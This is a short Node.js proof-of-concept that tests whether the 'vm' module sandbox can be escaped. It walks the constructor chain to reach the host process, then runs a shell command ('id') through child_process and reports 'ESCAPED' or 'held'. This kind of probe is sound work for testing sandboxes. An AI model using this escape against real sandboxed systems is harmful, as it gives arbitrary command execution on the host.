// Leaves the language's own "vm" for the process, then asks for the system's modules.
const vm = require('vm');
const f = vm.runInNewContext('this.constructor.constructor("return process")')();
try {
  f.mainModule.require('child_process').execFileSync('/bin/sh', ['-c', 'id']);
  console.log('ESCAPED: a shell');
} catch (e) { console.log('held', e.code); }
